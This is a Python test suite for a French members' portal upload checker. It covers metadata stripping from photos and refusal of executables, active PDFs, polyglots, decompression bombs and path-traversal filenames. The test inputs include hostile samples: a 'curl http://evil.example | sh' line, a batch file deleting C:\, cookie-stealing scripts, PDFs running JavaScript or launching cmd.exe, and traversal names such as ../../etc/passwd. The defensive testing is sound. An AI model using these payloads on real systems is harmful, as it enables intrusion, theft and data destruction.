"""Members' uploads: what is accepted, what is kept of it, each bad upload of the catalogue refused with its message.

Files are built here with Pillow, pillow-heif, reportlab and by hand (small PDFs written object by object),
so each test shows the bytes it sends.
"""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pillow_heif
import pytest
from PIL import ExifTags, Image, ImageCms, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from reportlab.pdfgen import canvas

from models.errors import DomainError, ValidationFailed
from models.files import storage
from models.files.entities import StoredFile
from models.files.uploads import (
    JPEG, MAX_IMAGE_PIXELS, MAX_NAME_LENGTH, MAX_PDF_OBJECTS, PDF, PNG, CheckedFile, UploadLimits, UploadRejected,
    check_upload, check_uploads, recent_duplicates, safe_filename,
)
from models.i18n import Message, localize
from tests.factories import make_member

DATA = Path(__file__).resolve().parent.parent / "data" / "uploads"
NOW = datetime(2026, 11, 27, 9, 0, tzinfo=UTC)
MB = 1024 * 1024


# --- builders -------------------------------------------------------------------------------------------

def letter_pdf(text: str = "Facture de la pharmacie, novembre 2026") -> bytes:
    """A one-page PDF as a printer driver or a scanner app writes it (reportlab)."""
    buf = io.BytesIO()
    pdf = canvas.Canvas(buf)
    pdf.drawString(72, 720, text)
    pdf.linkURL("https://www.mese.fr/", (72, 700, 300, 715))
    pdf.showPage()
    pdf.save()
    return buf.getvalue()


def build_pdf(objects: dict[int, bytes], *, root: int = 1, compressed: dict[int, bytes] | None = None,
              header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", trailer: bytes = b"") -> bytes:
    """A PDF written object by object, with a correct cross-reference table.

    ``compressed`` objects go into one object stream (Flate), which needs a cross-reference stream:
    there, names are only visible once the stream is decoded.
    """
    out = bytearray(header)
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    if not compressed:
        size = max(offsets) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
        return bytes(out) + trailer
    stream_number = max([*objects, *compressed]) + 1
    xref_number = stream_number + 1
    heads, bodies = [], b""
    for number in sorted(compressed):
        heads.append(b"%d %d" % (number, len(bodies)))
        bodies += compressed[number] + b"\n"
    head = b" ".join(heads) + b"\n"
    packed = zlib.compress(head + bodies)
    offsets[stream_number] = len(out)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (stream_number, len(compressed), len(head), len(packed)) + packed + b"\nendstream\nendobj\n")
    offsets[xref_number] = len(out)
    rows = b"\x00" + struct.pack(">IH", 0, 65535)
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows += b"\x01" + struct.pack(">IH", offsets[number], 0)
        else:
            rows += b"\x02" + struct.pack(">IH", stream_number, sorted(compressed).index(number))
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\nstream\n"
            % (xref_number, xref_number + 1, root, len(rows)) + rows + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out) + trailer


def page_pdf(*, catalog_extra: bytes = b"", page_extra: bytes = b"", more: dict[int, bytes] | None = None,
             compressed: dict[int, bytes] | None = None, **kwargs) -> bytes:
    """A one-page hand-written PDF: catalog 1, pages 2, page 3, content 4, plus ``more`` objects."""
    content = b"BT /F1 12 Tf 72 720 Td (Attestation) Tj ET"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> "
           + page_extra + b">>",
        4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        **(more or {}),
    }
    return build_pdf(objects, compressed=compressed, **kwargs)


def jpeg(size=(64, 48), *, color="red", mode="RGB", **save) -> bytes:
    buf = io.BytesIO()
    Image.new(mode, size, color).save(buf, "JPEG", **save)
    return buf.getvalue()


def png(size=(64, 48), *, mode="RGBA", color=(0, 90, 200, 128), **save) -> bytes:
    buf = io.BytesIO()
    Image.new(mode, size, color).save(buf, "PNG", **save)
    return buf.getvalue()


def heic(size=(64, 48), **save) -> bytes:
    pillow_heif.register_heif_opener()
    buf = io.BytesIO()
    Image.new("RGB", size, "blue").save(buf, "HEIF", quality=80, **save)
    return buf.getvalue()


def camera_exif(orientation: int = 1) -> Image.Exif:
    """EXIF as a phone writes it: maker, model, serial number, GPS position of the member's home."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Apple"
    exif[ExifTags.Base.Model] = "iPhone 15"
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (45.0, 11.0, 30.0), 3: "E", 4: (5.0, 43.0, 0.0)}
    exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.BodySerialNumber] = "SN-4242-SECRET"
    return exif


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims ``width`` x ``height`` pixels, with hardly any data: a pixel flood."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))


def zip_bytes(name: str = "payload.js", body: bytes = b"alert(1)", *, comment: bytes = b"") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr(name, body)
        archive.comment = comment
    return buf.getvalue()


def refused(filename: str, data: bytes, **kwargs) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        check_upload(filename, data, **kwargs)
    return caught.value


# --- good files -----------------------------------------------------------------------------------------

def test_a_pdf_is_accepted_and_kept_byte_for_byte():
    data = letter_pdf()
    checked = check_upload("Facture pharmacie.pdf", data)
    assert checked == CheckedFile(filename="Facture pharmacie.pdf", content_type=PDF, data=data,
                                  sha256=hashlib.sha256(data).hexdigest())


def test_a_pdf_that_opens_on_its_first_page_is_accepted():
    """Word and many generators write /OpenAction [page /Fit]: it only shows a page."""
    check_upload("a.pdf", page_pdf(catalog_extra=b"/OpenAction [3 0 R /Fit] "))
    check_upload("b.pdf", page_pdf(catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> "))


def test_a_pdf_saved_again_with_an_incremental_update_is_accepted():
    writer = PdfWriter(io.BytesIO(letter_pdf()), incremental=True)
    writer.add_metadata({"/Title": "Facture"})
    buf = io.BytesIO()
    writer.write(buf)
    assert buf.getvalue().count(b"%%EOF") == 2
    assert check_upload("facture.pdf", buf.getvalue()).content_type == PDF


def test_a_jpeg_photo_is_reencoded_and_its_exif_gps_and_comment_are_gone():
    data = jpeg(exif=camera_exif(), comment=b"chez moi, 12 rue des Lilas",
                xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">GPSLatitude 45.19N</x:xmpmeta>')
    assert b"SN-4242-SECRET" in data and b"Lilas" in data and b"GPSLatitude" in data
    checked = check_upload("IMG_2041.JPG", data)
    assert (checked.filename, checked.content_type) == ("IMG_2041.jpg", JPEG)
    assert checked.sha256 == hashlib.sha256(checked.data).hexdigest()
    image = Image.open(io.BytesIO(checked.data))
    assert image.format == "JPEG" and image.size == (64, 48)
    exif = image.getexif()
    assert dict(exif) == {} and exif.get_ifd(ExifTags.IFD.GPSInfo) == {}
    assert "exif" not in image.info and "comment" not in image.info
    for secret in (b"Exif", b"SN-4242-SECRET", b"iPhone", b"Lilas", b"xmpmeta", b"GPSLatitude"):
        assert secret not in checked.data


def test_a_photo_taken_sideways_is_turned_upright_before_its_exif_is_dropped():
    checked = check_upload("photo.jpg", jpeg((64, 48), exif=camera_exif(orientation=6)))
    assert Image.open(io.BytesIO(checked.data)).size == (48, 64)


def test_a_png_is_reencoded_without_its_text_chunks_and_keeps_its_transparency():
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Léa RIMON, 12 rue des Lilas")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>GPS 45.19N</x:xmpmeta>")
    data = png(pnginfo=info, exif=camera_exif())
    checked = check_upload("scan.png", data)
    assert (checked.filename, checked.content_type) == ("scan.png", PNG)
    image = Image.open(io.BytesIO(checked.data))
    assert image.mode == "RGBA" and image.getpixel((3, 3)) == (0, 90, 200, 128)
    assert image.text == {} and dict(image.getexif()) == {}
    for secret in (b"Lilas", b"xmpmeta", b"SN-4242-SECRET", b"eXIf", b"tEXt", b"iTXt"):
        assert secret not in checked.data


def test_an_image_with_its_own_colour_profile_is_converted_to_srgb_and_the_profile_dropped():
    rgb_profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    checked = check_upload("scan.jpg", jpeg(icc_profile=rgb_profile))
    image = Image.open(io.BytesIO(checked.data))
    assert "icc_profile" not in image.info and image.mode == "RGB"
    # a profile that cannot be used to convert still leaves the photo accepted, without it
    checked = check_upload("odd.jpg", jpeg(icc_profile=b"not a profile"))
    assert "icc_profile" not in Image.open(io.BytesIO(checked.data)).info


def test_a_cmyk_jpeg_is_kept_as_an_rgb_jpeg():
    checked = check_upload("scan.jpg", jpeg(mode="CMYK", color=(0, 255, 255, 0)))
    assert Image.open(io.BytesIO(checked.data)).mode == "RGB"


def test_only_the_first_picture_of_a_multi_picture_jpeg_or_an_animated_png_is_kept():
    frames = [Image.new("RGB", (64, 48), color) for color in ("red", "green")]
    mpo, apng = io.BytesIO(), io.BytesIO()
    frames[0].save(mpo, "MPO", save_all=True, append_images=frames[1:])
    frames[0].save(apng, "PNG", save_all=True, append_images=frames[1:])
    for name, data in (("double.jpg", mpo.getvalue()), ("anime.png", apng.getvalue())):
        kept = Image.open(io.BytesIO(check_upload(name, data).data))
        red, green, _blue = kept.convert("RGB").getpixel((1, 1))
        assert getattr(kept, "n_frames", 1) == 1 and red > 240 and green < 15, name


def test_a_palette_png_and_a_16_bit_png_are_accepted():
    check_upload("palette.png", png(mode="P", color=3))
    check_upload("deep.png", png(mode="I;16", color=40000))


def test_heic_from_a_phone_is_converted_to_jpeg_upright_without_its_metadata():
    data = heic((64, 48), exif=camera_exif(orientation=6).tobytes())  # held upright: turned once, not twice
    assert data[4:12] == b"ftypheic"
    checked = check_upload("IMG_0001.HEIC", data)
    assert (checked.filename, checked.content_type) == ("IMG_0001.jpg", JPEG)
    image = Image.open(io.BytesIO(checked.data))
    assert image.format == "JPEG" and image.size == (48, 64) and dict(image.getexif()) == {}
    assert b"SN-4242-SECRET" not in checked.data and b"iPhone" not in checked.data


def test_the_type_comes_from_the_content_not_from_the_name():
    assert check_upload("photo.pdf", jpeg()).filename == "photo.jpg"
    assert check_upload("document.png", letter_pdf()).filename == "document.pdf"
    assert check_upload("scan", png()).filename == "scan.png"


def test_jpeg_with_a_trailer_from_the_phone_is_accepted_and_the_trailer_dropped():
    """Motion photos append a video after the JPEG: it is not a second document; re-encoding drops it."""
    trailer = b"\x00\x00\x00\x18ftypmp42" + b"\x11" * 4000
    checked = check_upload("PXL_2026.jpg", jpeg() + trailer)
    assert b"ftypmp42" not in checked.data


# --- bad files: each refused with its message, naming the file ---------------------------------------

def test_an_empty_file_is_refused():
    error = refused("ordonnance.pdf", b"")
    assert error.message == "« ordonnance.pdf » est vide (0 octet) : choisissez le bon fichier."
    assert isinstance(error.message, Message) and error.field == "files"
    assert isinstance(error, DomainError) and isinstance(error, ValidationFailed)
    assert error.errors == {"files": [error.message]}


def test_a_file_over_the_size_is_refused_and_the_limit_itself_accepted():
    data = letter_pdf()
    limits = UploadLimits(max_file_bytes=len(data))
    assert check_upload("juste.pdf", data, limits=limits).data == data
    error = refused("juste.pdf", data, limits=UploadLimits(max_file_bytes=len(data) - 1))
    assert error.message.startswith("« juste.pdf » dépasse la taille maximale de")


def test_a_file_of_ten_megabytes_and_one_byte_is_refused_before_its_content_is_read():
    error = refused("gros.pdf", b"%PDF-" + b"\x00" * (10 * MB - 4))
    assert error.message == "« gros.pdf » dépasse la taille maximale de 10 Mo par fichier."


@pytest.mark.parametrize("filename, data", [
    ("facture.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200),  # Windows program
    ("photo.png", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200),  # Linux program
    ("scan.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n"),  # shell script
    ("attestation.pdf", b"\xcf\xfa\xed\xfe" + b"\x00" * 200),  # macOS program
    ("page.pdf", b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"),
    ("dessin.png", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("lancer.pdf", b"@echo off\r\ndel /q C:\\*\r\n"),
])
def test_a_renamed_program_or_script_is_refused(filename, data):
    error = refused(filename, data)
    assert error.message == f"« {filename} » est un programme ou un script, pas un document : il n'est pas accepté."


@pytest.mark.parametrize("data", [
    zip_bytes("word/document.xml", b"<w:document/>"),  # .docx is a ZIP
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200,  # .doc / .xls
    b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100,
    b"\x1f\x8b\x08\x00" + b"\x00" * 100,
])
def test_an_archive_or_office_document_is_refused_with_advice(data):
    error = refused("releve.pdf", data)
    assert error.message == ("« releve.pdf » est une archive ou un document de bureautique (Word, Excel…) : "
                             "envoyez-le en PDF ou en photo.")


@pytest.mark.parametrize("data", [
    b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    b"BM" + b"\x00" * 100,
    b"Bonjour, voici mon attestation.",
    b"RIFF\x00\x00\x00\x00WEBPVP8 ",
    b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf",  # AVIF: libheif here cannot read it
    b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom",  # a video
    b"II*\x00\x08\x00\x00\x00",  # TIFF
])
def test_other_formats_are_refused(data):
    assert refused("fichier.jpg", data).message == (
        "« fichier.jpg » n'est pas un fichier PDF, JPEG, PNG ou HEIC : ce format n'est pas accepté.")


ACTIVE_PDF = ("« piece.pdf » contient des éléments actifs (script, action automatique ou fichier joint) : il n'est "
              "pas accepté. Enregistrez-le de nouveau en PDF simple, par exemple avec « Imprimer en PDF ».")


@pytest.mark.parametrize("pdf", [
    page_pdf(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
    page_pdf(catalog_extra=b"/OpenAction 5 0 R ", more={5: b"<< /S /JavaScript /JS 6 0 R >>",
                                                         6: b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream"}),
    page_pdf(catalog_extra=b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >> ",
             more={5: b"<< /S /JavaScript /JS (this.submitForm('http://evil.example')) >>"}),
    page_pdf(page_extra=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> "),
    page_pdf(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> "),
    page_pdf(catalog_extra=b"/OpenAction << /S /URI /URI (https://evil.example/) >> "),
    page_pdf(catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ",
             more={5: b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                   6: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"}),
    page_pdf(page_extra=b"/Annots [5 0 R] ",
             more={5: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"}),
    page_pdf(page_extra=b"/Annots [5 0 R] ",
             more={5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm /F (x) >> >>"}),
    page_pdf(catalog_extra=b"/AcroForm << /Fields [] /XFA 5 0 R >> ",
             more={5: b"<< /Length 10 >>\nstream\n<xdp:xdp/>\nendstream"}),
    # the name written with an escape: /J#61vaScript is /JavaScript
    page_pdf(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> "),
    # /S given by reference
    page_pdf(catalog_extra=b"/OpenAction << /S 5 0 R >> ", more={5: b"/Launch"}),
], ids=["openaction-js", "js-in-stream", "names-javascript", "additional-actions", "launch", "openaction-uri",
        "embedded-file", "rich-media", "submit-form", "xfa", "escaped-name", "indirect-action-type"])
def test_a_pdf_that_would_act_on_its_own_is_refused(pdf):
    assert refused("piece.pdf", pdf).message == ACTIVE_PDF


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    pdf = page_pdf(catalog_extra=b"/OpenAction 5 0 R ",
                   compressed={5: b"<< /S /JavaScript /JS (app.launchURL('http://evil.example')) >>"})
    assert b"JavaScript" not in pdf  # invisible in the raw bytes
    assert PdfReader(io.BytesIO(pdf)).trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
    assert refused("piece.pdf", pdf).message == ACTIVE_PDF


def test_javascript_in_an_object_no_table_points_to_is_found_in_the_raw_bytes():
    """A viewer that repairs the file would find it even if the parser skipped it."""
    pdf = page_pdf()
    orphan = b"9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
    pdf = pdf.replace(b"xref\n", orphan + b"xref\n", 1)
    start = pdf.rindex(b"startxref\n") + len(b"startxref\n")
    xref_at = int(pdf[start:pdf.index(b"\n", start)])
    pdf = pdf[:start] + b"%d" % (xref_at + len(orphan)) + pdf[pdf.index(b"\n", start):]
    assert refused("piece.pdf", pdf).message == ACTIVE_PDF


def test_a_password_protected_or_encrypted_pdf_is_refused():
    message = ("« releve.pdf » est un PDF protégé par un mot de passe ou chiffré : nous ne pouvons pas le vérifier. "
               "Envoyez-le sans protection.")
    for user_password in ("1234", ""):  # opening password, or only a "no printing" owner password
        writer = PdfWriter(clone_from=io.BytesIO(letter_pdf()))
        writer.encrypt(user_password, "owner-secret", algorithm="AES-128")
        buf = io.BytesIO()
        writer.write(buf)
        assert refused("releve.pdf", buf.getvalue()).message == message


DAMAGED_PDF = ("« piece.pdf » est un PDF endommagé ou incomplet que nous ne pouvons pas lire : enregistrez-le de "
               "nouveau et réessayez.")


@pytest.mark.parametrize("pdf", [
    letter_pdf()[: len(letter_pdf()) // 2],  # truncated download
    b"%PDF-1.7\nthis is not a PDF at all\n%%EOF\n",
    build_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),  # no page
], ids=["truncated", "garbage", "no-page"])
def test_a_pdf_that_does_not_parse_is_refused(pdf):
    assert refused("piece.pdf", pdf).message == DAMAGED_PDF


def test_a_pdf_with_ten_thousand_nested_arrays_is_refused_without_crashing():
    deep = b"[" * 10_000 + b"]" * 10_000
    assert refused("piece.pdf", page_pdf(catalog_extra=b"/Deep " + deep + b" ")).message == DAMAGED_PDF


PDF_BOMB = "« piece.pdf » est un PDF anormalement volumineux ou complexe une fois ouvert : il n'est pas accepté."


def test_a_pdf_stream_that_expands_to_a_gigabyte_is_refused():
    packed = zlib.compress(b"\x00" * (80 * MB), 9)
    assert len(packed) < 100_000
    bomb = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream"
    pdf = page_pdf(more={5: bomb}, page_extra=b"/PieceInfo << /X 5 0 R >> ")
    assert refused("piece.pdf", pdf).message == PDF_BOMB


def test_a_pdf_of_more_objects_than_can_be_checked_quickly_is_refused():
    pdf = page_pdf(more={number: b"<< /N %d >>" % number for number in range(5, MAX_PDF_OBJECTS + 2)})
    assert refused("piece.pdf", pdf).message == PDF_BOMB
    check_upload("piece.pdf", page_pdf(more={number: b"<< /N %d >>" % number for number in range(5, 2_000)}))


TOO_LARGE = f"« plan.png » est une image trop grande : {MAX_IMAGE_PIXELS // 1_000_000} millions de pixels au plus."


@pytest.mark.parametrize("data", [
    png_header_only(100_000, 100_000),  # Pillow's own error (more than twice its limit)
    png_header_only(8_000, 7_000),  # 56 Mpx: Pillow only warns; the warning is a refusal
])
def test_a_decompression_bomb_is_refused_before_it_is_decoded(data):
    assert len(data) < 200
    assert refused("plan.png", data).message == TOO_LARGE


def test_a_real_image_just_over_the_pixel_cap_is_refused_and_one_under_it_accepted():
    over = io.BytesIO()
    Image.new("1", (10_000, 5_001)).save(over, "PNG")
    assert refused("plan.png", over.getvalue()).message == TOO_LARGE
    under = io.BytesIO()
    Image.new("1", (2_000, 1_500)).save(under, "PNG")
    assert check_upload("plan.png", under.getvalue()).content_type == PNG


def test_the_width_times_height_cap_holds_even_if_pillow_s_limit_is_lifted(monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", None)
    assert refused("plan.png", png_header_only(100_000, 100_000)).message == TOO_LARGE


def test_pillow_s_own_limit_is_ours_and_its_warning_is_a_refusal(monkeypatch):
    import models.files.uploads as uploads

    assert Image.MAX_IMAGE_PIXELS == MAX_IMAGE_PIXELS
    monkeypatch.setattr(uploads, "MAX_IMAGE_PIXELS", 10**12)  # only Pillow's warning is left to refuse it
    assert refused("plan.png", png_header_only(8_000, 7_000)).message.startswith(
        "« plan.png » est une image trop grande")


def test_a_damaged_image_is_refused():
    data = jpeg((640, 480), color="green")
    assert refused("photo.jpg", data[: len(data) // 2]).message == (
        "« photo.jpg » est une image endommagée ou incomplète que nous ne pouvons pas lire.")
    assert refused("photo.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 50).message.startswith("« photo.jpg » est une image")


POLYGLOT = "« {} » contient, en plus du document, un autre fichier ou du code caché : il n'est pas accepté."


@pytest.mark.parametrize("filename, data", [
    ("photo.jpg", jpeg() + zip_bytes()),  # JPEG + ZIP (a JAR, a docx...)
    ("photo.png", png() + letter_pdf()),  # PNG + PDF after it
    ("photo.jpg", jpeg(comment=b"%PDF-1.4 1 0 obj << >> endobj")),  # PDF header inside the JPEG
    ("photo.jpg", jpeg() + b"<html><script>alert(document.cookie)</script></html>"),  # HTML after the JPEG
    ("photo.png", png(pnginfo=(lambda i: (i.add_text("c", "<script>alert(1)</script>"), i)[1])(
        PngImagePlugin.PngInfo()))),  # script inside a PNG text chunk
    ("photo.heic", heic() + zip_bytes()),
    ("piece.pdf", b"GIF89a" + b"\x00" * 20 + letter_pdf()),  # garbage before %PDF
    ("piece.pdf", letter_pdf() + zip_bytes()),  # ZIP after %%EOF
    ("piece.pdf", letter_pdf() + zip_bytes(comment=b"\n%%EOF\n")),  # ... whose comment ends the PDF again
    ("piece.pdf", letter_pdf() + b"<html><body>x</body></html>"),  # HTML after %%EOF
    ("piece.pdf", letter_pdf() + b"MZ\x90\x00 data after the end"),  # anything after %%EOF
    ("piece.pdf", letter_pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1)),  # HTML in the PDF
], ids=["jpeg+zip", "png+pdf", "pdf-in-jpeg", "jpeg+html", "script-in-png", "heic+zip", "garbage+pdf", "pdf+zip",
        "pdf+zip-ending-in-eof", "pdf+html", "pdf+trailer", "html-in-pdf"])
def test_a_polyglot_is_refused(filename, data):
    assert refused(filename, data).message == POLYGLOT.format(filename)


def test_a_pdf_with_spaces_after_its_end_is_not_a_polyglot():
    assert check_upload("piece.pdf", letter_pdf() + b"\r\n\x00\x00 \n").content_type == PDF


# --- names ----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("given, shown, why", [
    ("../../etc/passwd", "passwd", "contient une barre oblique"),
    ("..\\..\\win.ini", "win.ini", "contient une barre oblique"),
    ("/etc/passwd", "passwd", "contient une barre oblique"),
    ("C:\\boot.ini", "boot.ini", "contient une barre oblique"),
    ("....//....//x.pdf", "x.pdf", "contient une barre oblique"),
    ("fac\x00ture\r\n.pdf", "facture.pdf", "contient des caractères invisibles"),
    ("scan.pdf\x00.jpg", "scan.pdf.jpg", "contient des caractères invisibles"),
    ("x" * 300 + ".pdf", "x" * 60 + "…", "est trop long (304 caractères, 255 au plus)"),
])
def test_a_name_with_folders_control_characters_or_too_long_is_refused(given, shown, why):
    message = refused(given, letter_pdf()).message
    assert message.startswith(f"Le nom de « {shown}") and why in message
    assert message.endswith(": renommez le fichier puis ajoutez-le à nouveau.")


@pytest.mark.parametrize("given, kept", [
    ("%2e%2e%2fsecret.pdf", "%2e%2e%2fsecret.pdf"),
    ("facture\u202efdp.exe", "facturefdp.pdf"),
    ("relevé\u200b\ufeff.pdf", "relevé.pdf"),
    ("scan.pdf.exe", "scan.pdf"),
    ("scan.PDF", "scan.pdf"),
    ("scan.pdf ", "scan.pdf"),
    ("scan.pdf.", "scan.pdf"),
    ("Facture n°12.2026", "Facture n°12.2026.pdf"),
    ("re\u0301sultat.pdf", "résultat.pdf"),  # NFD written as NFC
    ('a"b<c>d|e?.pdf', "a_b_c_d_e_.pdf"),
    ("CON.pdf", "CON_.pdf"),
    ("   ", "document.pdf"),
    ("", "document.pdf"),
    (".pdf", "pdf.pdf"),  # no hidden file once downloaded
])
def test_a_name_is_cleaned_not_refused(given, kept):
    assert check_upload(given, letter_pdf()).filename == kept


def test_a_long_name_is_cut_to_a_hundred_and_twenty_characters_with_its_extension():
    checked = check_upload("é" * 200 + ".jpeg", jpeg())
    assert checked.filename == "é" * (MAX_NAME_LENGTH - 4) + ".jpg"
    assert len(checked.filename) == MAX_NAME_LENGTH
    error = refused("x" * 200 + ".pdf", b"")
    assert error.message == f"« {'x' * MAX_NAME_LENGTH} » est vide (0 octet) : choisissez le bon fichier."


def test_the_message_names_the_file_without_its_folders_or_control_characters():
    assert refused("C:\\Users\\lea\\ordo\x07nnance.pdf", b"%PDF").message.startswith("Le nom de « ordonnance.pdf »")


def test_safe_filename_gives_the_extension_of_the_content():
    assert safe_filename("photo.heic", "jpg") == "photo.jpg"
    assert safe_filename("rapport.v2.final.pdf", "pdf") == "rapport.v2.final.pdf"


# --- several files at once --------------------------------------------------------------------------------

def test_several_good_files_are_all_accepted_in_order():
    checked = check_uploads([("a.pdf", letter_pdf()), ("b.jpg", jpeg()), ("c.png", png())])
    assert [c.filename for c in checked] == ["a.pdf", "b.jpg", "c.png"]


def test_all_or_nothing_one_bad_file_refuses_the_whole_upload_with_every_problem():
    with pytest.raises(UploadRejected) as caught:
        check_uploads([("a.pdf", letter_pdf()), ("vide.pdf", b""), ("b.jpg", jpeg()), ("virus.pdf", b"MZ\x90\x00")])
    assert caught.value.messages == [
        "« vide.pdf » est vide (0 octet) : choisissez le bon fichier.",
        "« virus.pdf » est un programme ou un script, pas un document : il n'est pas accepté.",
    ]
    assert caught.value.message == caught.value.messages[0]
    assert caught.value.errors == {"files": caught.value.messages}


def test_at_most_ten_files():
    check_uploads([(f"{i}.png", png(color=(i, 0, 0, 255))) for i in range(10)])
    with pytest.raises(UploadRejected) as caught:
        check_uploads([(f"{i}.png", png(color=(i, 0, 0, 255))) for i in range(11)])
    assert caught.value.messages == [
        "Vous pouvez envoyer 10 fichiers au plus à la fois ; vous en avez choisi 11."]


def test_at_most_twenty_megabytes_in_all_checked_before_any_file_is_opened():
    nine = b"\x00" * (9 * MB)  # would each be refused as "not a document" if they were opened
    with pytest.raises(UploadRejected) as caught:
        check_uploads([("a.pdf", nine), ("b.pdf", nine), ("c.pdf", nine)])
    assert caught.value.messages == ["Vos fichiers font 27 Mo en tout ; le maximum est de 20 Mo par envoi."]


def test_limits_can_be_set_per_form():
    limits = UploadLimits(max_files=1)
    with pytest.raises(UploadRejected):
        check_uploads([("a.pdf", letter_pdf()), ("b.jpg", jpeg())], limits=limits)


def test_a_file_is_required_unless_the_form_says_otherwise():
    with pytest.raises(UploadRejected) as caught:
        check_uploads([])
    assert caught.value.message == "Ajoutez au moins un fichier."
    assert check_uploads([], required=False) == []
    assert check_uploads([("", b"")], required=False) == []  # a file field left empty


def test_the_same_file_twice_in_one_upload_is_refused():
    data = letter_pdf()
    with pytest.raises(UploadRejected) as caught:
        check_uploads([("facture.pdf", data), ("facture (1).pdf", data)])
    assert caught.value.messages == [
        "« facture (1).pdf » est le même fichier que « facture.pdf » : ajoutez-le une seule fois."]


def test_messages_have_an_english_translation():
    error = refused("scan.pdf", b"")
    assert localize(error.message, "en") == "“scan.pdf” is empty (0 bytes): choose the right file."


# --- duplicates over 30 days ------------------------------------------------------------------------------

def test_a_file_the_member_sent_within_thirty_days_is_pointed_out_older_ones_and_others_files_not(session):
    lea = make_member(session)
    other = make_member(session, email="other@example.test")
    recent, old, others, generated, new = (check_upload(f"{n}.pdf", letter_pdf(n))
                                           for n in ("recent", "old", "others", "generated", "new"))
    storage.store_bytes(session, recent.data, filename=recent.filename, content_type=recent.content_type,
                        member_id=lea.id, now=NOW - timedelta(days=29, hours=23))
    storage.store_bytes(session, old.data, filename=old.filename, content_type=old.content_type,
                        member_id=lea.id, now=NOW - timedelta(days=30, minutes=1))
    storage.store_bytes(session, others.data, filename=others.filename, content_type=others.content_type,
                        member_id=other.id, now=NOW - timedelta(days=1))
    storage.store_bytes(session, generated.data, filename=generated.filename, content_type=PDF, now=NOW)
    session.commit()

    found = recent_duplicates(session, lea.id, [recent, old, others, generated, new], now=NOW)
    assert found == [recent]
    assert recent_duplicates(session, lea.id, [old], days=31, now=NOW) == [old]
